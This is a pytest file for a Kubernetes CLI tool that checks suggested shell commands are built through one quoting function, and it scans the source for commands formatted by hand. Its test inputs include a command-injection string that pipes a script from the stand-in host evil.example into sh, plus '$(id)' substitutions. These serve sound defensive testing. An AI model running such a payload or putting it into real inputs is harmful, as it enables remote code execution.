"""Commands that people are advised to run: no value gets past quoting, and all places use the one function."""

import ast
import re
import shlex
from collections.abc import Iterator
from pathlib import Path
from typing import Final

import pytest

from cardwise.core.values.shellcommand import command

ROOT: Final = Path(__file__).parents[3]
PACKAGES: Final = ("cardwise", "webhook", "extender", "deviceplugin", "mps")
EVIL: Final = "x; curl http://evil.example | sh #"
VALUE: Final = "\0"  # stands for a value in a text
# A program with its words, up to the end of a sentence or of a quotation, and a value in it.
WITH_VALUE: Final = re.compile(rf"\b(kubectl|helm|cardwise|docker|nvidia-smi) [-a-z][^`;()\n{VALUE}]*{VALUE}")
UNFINISHED: Final = re.compile(r"\b(kubectl|helm|cardwise) [a-z][^`;()\n]* $")


@pytest.mark.parametrize("name", ["n1", "a.b-c", "web-5d4f-abcde", 7])
def test_kubernetes_names_are_inserted_unquoted(name):
    assert command("kubectl delete node {node}", node=name) == f"kubectl delete node {name}"


@pytest.mark.parametrize("name", ["", EVIL, "$(id)", "a b", "--all", "a\nb", "A", "a/b", "a" * 254, "`id`"])
def test_invalid_names_become_placeholders(name):
    assert command("kubectl delete node {node}", node=name) == "kubectl delete node NODE"
    assert command("kubectl delete pods {pods}", pods=["good", name]) == "kubectl delete pods PODS"


def test_any_other_text_is_quoted():
    shell_command = command("kubectl create x --user={user:text} -n {namespace}", user=EVIL, namespace="a")
    assert shlex.split(shell_command) == ["kubectl", "create", "x", f"--user={EVIL}", "-n", "a"]


def texts(tree: ast.AST) -> Iterator[tuple[int, str]]:
    """The texts of a module, with a mark in place of each value, without docstrings and templates of commands."""
    left_out: set[int] = set()
    for node in ast.walk(tree):
        if isinstance(node, ast.Expr) and isinstance(node.value, ast.Constant):
            left_out.add(id(node.value))
        if isinstance(node, ast.JoinedStr):
            left_out |= {id(part) for part in node.values}
    for node in ast.walk(tree):
        if id(node) in left_out:
            continue
        if isinstance(node, ast.JoinedStr):
            parts = (part.value if isinstance(part, ast.Constant) else VALUE for part in node.values)
            yield node.lineno, "".join(map(str, parts))
        elif isinstance(node, ast.Constant) and isinstance(node.value, str):
            yield node.lineno, node.value
        elif isinstance(node, ast.Attribute) and node.attr == "format" and isinstance(node.value, ast.Constant):
            yield node.lineno, re.sub(r"\{.*?\}", VALUE, str(node.value.value))


def faults(source: str) -> list[tuple[int, str]]:
    """Find commands that are formatted without the function."""
    return [(at, text) for at, text in texts(ast.parse(source)) if WITH_VALUE.search(text) or UNFINISHED.search(text)]


# Texts that start with a program's name but are not commands: a title, a constant path.
ALLOWED: Final = {
    "cardwise/cli/doctor/before.py": {"scheduler.mode=kubeadm changes its manifest"},  # "for helm template"
    "cardwise/cli/commands/top.py": {"cardwise top, "},
    "cardwise/cli/doctor/components.py": {"kubectl delete extendedresources -l "},  # the key of a label: a constant
    "cardwise/cli/cluster/workloads.py": {"kubectl get pod -n {namespace} {pods} -o yaml"},  # constant fields of a spec
    "cardwise/cli/rights.py": {"kubectl create "},  # one of two templates
}


def test_every_command_with_values_uses_the_command_function():
    for path in sorted(path for package in PACKAGES for path in (ROOT / package).rglob("*.py")):
        allowed = ALLOWED.get(str(path.relative_to(ROOT)), set())
        for at, text in faults(path.read_text()):
            assert any(text.startswith(start) for start in allowed), f"{path}:{at}: {text!r}"


@pytest.mark.parametrize(
    "source",
    [
        'f"kubectl delete node {name}"', 'f"if so: `kubectl -n {namespace} get pods`"', 'f"cardwise uncordon {GPU}"',
        '"kubectl delete node " + name', 'f"helm upgrade {release} helm/cardwise"', '"helm get notes {}".format(name)',
    ],
)  # fmt: skip
def test_manually_formatted_commands_are_detected(source):
    assert faults(source)


@pytest.mark.parametrize(
    "source", ['f"your administrator runs `cardwise doctor`. {more}"', '"kubectl get nodes"', '"""kubectl get """']
)
def test_sentences_are_not_detected_as_commands(source):
    assert not faults(source)
